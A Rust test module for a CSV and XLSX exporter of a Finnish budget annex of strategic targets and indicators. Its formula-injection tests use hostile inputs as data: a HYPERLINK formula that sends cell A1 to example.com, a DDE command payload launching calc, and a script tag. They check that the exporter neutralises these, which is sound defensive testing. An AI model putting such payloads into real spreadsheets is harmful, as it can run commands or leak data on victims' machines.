//! Tests of [`super`]: kept apart so that the module itself stays one idea.

use super::*;

const HEADERS: [&str; COLUMNS] = [
    "Toimiala",
    "Nro",
    "Tavoite",
    "Sitova",
    "Tavoitteet",
    "Vastuutaho",
    "Mittari",
    "Yksikkö",
    "Lähtötaso",
    "Lähtötason ajankohta",
    "Tavoitetaso",
    "Tavoitteen ajankohta",
    "Viimeisin",
    "Viimeisimmän ajankohta",
    "Tila",
    "Arvio",
    "Esimerkki",
    "Perustelu",
];

fn date(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

fn row<'a>(target: &'a str) -> AnnexRow<'a> {
    AnnexRow {
        organisation: "Kasvun ja oppimisen toimiala",
        target_id: 7,
        target,
        binding: true,
        goals: "14, 15",
        responsible: "Opetustoimi",
        indicator: Some("Työllisyysaste"),
        unit: "%",
        baseline: Some((72.45, date(2017, 12, 31))),
        target_value: Some((75.0, date(2021, 12, 31))),
        latest: Some((-0.04, date(2019, 6, 30))),
        status: "Käynnissä",
        assessment: "",
        example: false,
        justification: "",
        decimals: 1,
    }
}

fn annex<'a>(rows: Vec<AnnexRow<'a>>) -> Annex<'a> {
    Annex {
        title: "Talousarvio 2018: strategiset tavoitteet ja mittarit",
        headers: HEADERS,
        yes: "Kyllä",
        no: "Ei",
        rows,
    }
}

fn read_csv(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a byte order mark");
    let mut reader = csv::Reader::from_reader(body);
    let headers = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (headers, rows)
}

#[test]
fn csv_has_bom_header_and_rows() {
    let none = AnnexRow {
        indicator: None,
        baseline: None,
        target_value: None,
        latest: None,
        binding: false,
        example: true,
        assessment: "Hyvä",
        justification: "**Hyvin** meni.\n\n- yksi\n- kaksi",
        ..row("Toinen tavoite")
    };
    let bytes = to_csv(&annex(vec![row("Lisää työpaikkoja"), none])).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBFToimiala,Nro,Tavoite,Sitova,"));
    assert!(bytes.ends_with(b"\r\n"));
    let (headers, rows) = read_csv(&bytes);
    assert_eq!(headers, HEADERS);
    assert_eq!(
        rows[0],
        [
            "Kasvun ja oppimisen toimiala",
            "7",
            "Lisää työpaikkoja",
            "Kyllä",
            "14, 15",
            "Opetustoimi",
            "Työllisyysaste",
            "%",
            "72.5",
            "2017-12-31",
            "75.0",
            "2021-12-31",
            "0.0",
            "2019-06-30",
            "Käynnissä",
            "",
            "Ei",
            "",
        ]
    );
    assert_eq!(rows[1][2..=3], ["Toinen tavoite", "Ei"]);
    assert_eq!(rows[1][6..=7], ["", "%"]);
    assert!(rows[1][8..=13].iter().all(String::is_empty), "{:?}", rows[1]);
    assert_eq!(
        rows[1][15..],
        ["Hyvä", "Kyllä", "**Hyvin** meni.\n\n- yksi\n- kaksi"],
        "the justification as typed, Markdown and all"
    );
}

#[test]
fn csv_guards_against_formulas() {
    let formula = "=HYPERLINK(\"https://example.com/?\"&A1,\"Klikkaa\")";
    let mut rows = vec![row(formula)];
    for text in ["+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"] {
        rows.push(AnnexRow {
            responsible: text,
            ..row("ok")
        });
    }
    rows.push(AnnexRow {
        latest: Some((-3.5, date(2019, 1, 1))),
        ..row("negative")
    });
    let (_, read) = read_csv(&to_csv(&annex(rows)).unwrap());
    assert_eq!(read[0][2], format!("'{formula}"));
    let guarded: Vec<&str> = read[1..6].iter().map(|r| r[5].as_str()).collect();
    assert_eq!(guarded, ["'+1", "'-1+2", "'@SUM(A1)", "'\t=1", "'\r=1"]);
    assert_eq!(read[6][12], "-3.5", "numbers are not text and keep their sign");
    assert_eq!(read[6][2], "negative");
}

/// A justification is long free text, often a Markdown list (`- …`) or a formula pasted in: in CSV it is guarded
/// like every text cell; in XLSX it is a string cell, which Excel never evaluates.
#[test]
fn justifications_never_become_formulas() {
    let texts = [
        "- ensin\n- sitten",
        "=1+2",
        "+CMD|' /C calc'!A0",
        "@SUM(A1)",
        "<script>alert(1)</script>",
    ];
    let rows: Vec<AnnexRow> = texts
        .iter()
        .map(|text| AnnexRow {
            justification: text,
            ..row("ok")
        })
        .collect();
    let (_, read) = read_csv(&to_csv(&annex(rows.clone())).unwrap());
    let written: Vec<&str> = read.iter().map(|r| r[17].as_str()).collect();
    assert_eq!(
        written,
        [
            "'- ensin\n- sitten",
            "'=1+2",
            "'+CMD|' /C calc'!A0",
            "'@SUM(A1)",
            "<script>alert(1)</script>"
        ]
    );

    let bytes = to_xlsx(&annex(rows)).unwrap();
    use calamine::Reader as _;
    let mut workbook = calamine::Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let sheet = workbook.sheet_names()[0].clone();
    let formulas = workbook.worksheet_formula(&sheet).unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formulas");
    let values = workbook.worksheet_range(&sheet).unwrap();
    for (index, text) in texts.iter().enumerate() {
        assert_eq!(
            values.get_value((2 + index as u32, 17)),
            Some(&calamine::Data::String((*text).to_owned())),
            "{text}"
        );
    }
}

#[test]
fn csv_quotes_commas_quotes_and_newlines() {
    let tricky = "Kasvu, \"vihreä\"\nja kestävä";
    let bytes = to_csv(&annex(vec![row(tricky)])).unwrap();
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(text.contains("\"Kasvu, \"\"vihreä\"\"\nja kestävä\""), "{text}");
    assert!(text.contains(",\"14, 15\","));
    let (_, rows) = read_csv(&bytes);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0][2], tricky);
    assert_eq!(rows[0][4], "14, 15");
}

#[test]
fn csv_round_trips_many_rows() {
    let targets: Vec<String> = (0..200).map(|i| format!("Tavoite {i}, osa {}", i % 7)).collect();
    let rows: Vec<AnnexRow> = targets
        .iter()
        .enumerate()
        .map(|(i, t)| AnnexRow {
            target_id: i as u32,
            decimals: (i % 4) as u8,
            ..row(t)
        })
        .collect();
    let (headers, read) = read_csv(&to_csv(&annex(rows)).unwrap());
    assert_eq!(headers.len(), COLUMNS);
    assert_eq!(read.len(), 200);
    for (i, record) in read.iter().enumerate() {
        assert_eq!(record.len(), COLUMNS);
        assert_eq!(record[1], i.to_string());
        assert_eq!(record[2], targets[i]);
        assert_eq!(record[10], format_number(75.0, (i % 4) as u8));
    }
}

#[test]
fn csv_of_no_rows_is_the_header() {
    let (headers, rows) = read_csv(&to_csv(&annex(Vec::new())).unwrap());
    assert_eq!(headers, HEADERS);
    assert!(rows.is_empty());
}

#[test]
fn numbers_are_plain() {
    assert_eq!(format_number(1234567.891, 2), "1234567.89");
    assert_eq!(format_number(-0.04, 1), "0.0");
    assert_eq!(format_number(-0.0, 0), "0");
    assert_eq!(format_number(-2.5, 0), "-2");
    assert_eq!(format_number(1.0, 200).len(), 2 + usize::from(MAX_DECIMALS));
    assert_eq!(number_format(0), "0");
    assert_eq!(number_format(2), "0.00");
}

#[test]
fn sheet_names_are_safe() {
    assert_eq!(
        sheet_name("Talousarvio 2018: strategiset tavoitteet ja mittarit"),
        "Talousarvio 2018"
    );
    assert_eq!(sheet_name("Budget [2018]/*?\\ annex"), "Budget 2018 annex");
    assert_eq!(
        sheet_name(": a very long title that goes well beyond the limit"),
        "a very long title that goes wel"
    );
    assert_eq!(sheet_name("'quoted'"), "quoted");
    assert_eq!(sheet_name(""), "Annex");
    assert_eq!(sheet_name("History"), "Annex");
    for title in ["x".repeat(100), "ä".repeat(40), "[]:*?/\\".to_owned()] {
        let name = sheet_name(&title);
        assert!(rust_xlsxwriter::utility::check_sheet_name(&name).is_ok(), "{name}");
    }
}

#[test]
fn xlsx_is_a_zip_of_reasonable_size() {
    let rows = vec![
        row("=HYPERLINK(\"https://example.com\")"),
        AnnexRow {
            indicator: None,
            baseline: None,
            target_value: None,
            latest: None,
            ..row("Ilman mittaria")
        },
        // Outside Excel's calendar and not a number: written as text and left empty, without an error.
        AnnexRow {
            baseline: Some((f64::NAN, date(1850, 1, 1))),
            decimals: 255,
            ..row("Vanha")
        },
    ];
    let bytes = to_xlsx(&annex(rows)).unwrap();
    assert!(bytes.starts_with(b"PK\x03\x04"));
    assert!((2_000..100_000).contains(&bytes.len()), "{} bytes", bytes.len());
}

#[test]
fn xlsx_of_five_thousand_rows() {
    let long = "Pitkä tavoite, joka rivittyy useammalle riville. ".repeat(4);
    let rows: Vec<AnnexRow> = (0..5_000)
        .map(|i| AnnexRow {
            target_id: i,
            decimals: (i % 3) as u8,
            ..row(&long)
        })
        .collect();
    let bytes = to_xlsx(&annex(rows)).unwrap();
    assert!(bytes.starts_with(b"PK\x03\x04"));
    assert!((20_000..5_000_000).contains(&bytes.len()), "{} bytes", bytes.len());
}

#[test]
fn xlsx_of_no_rows_and_oversized_text() {
    assert!(to_xlsx(&annex(Vec::new())).unwrap().starts_with(b"PK\x03\x04"));
    let huge = "a".repeat(EXCEL_MAX_CHARS + 10);
    assert!(to_xlsx(&annex(vec![row(&huge)])).is_ok());
    assert_eq!(excel_text(&huge).chars().count(), EXCEL_MAX_CHARS);
}
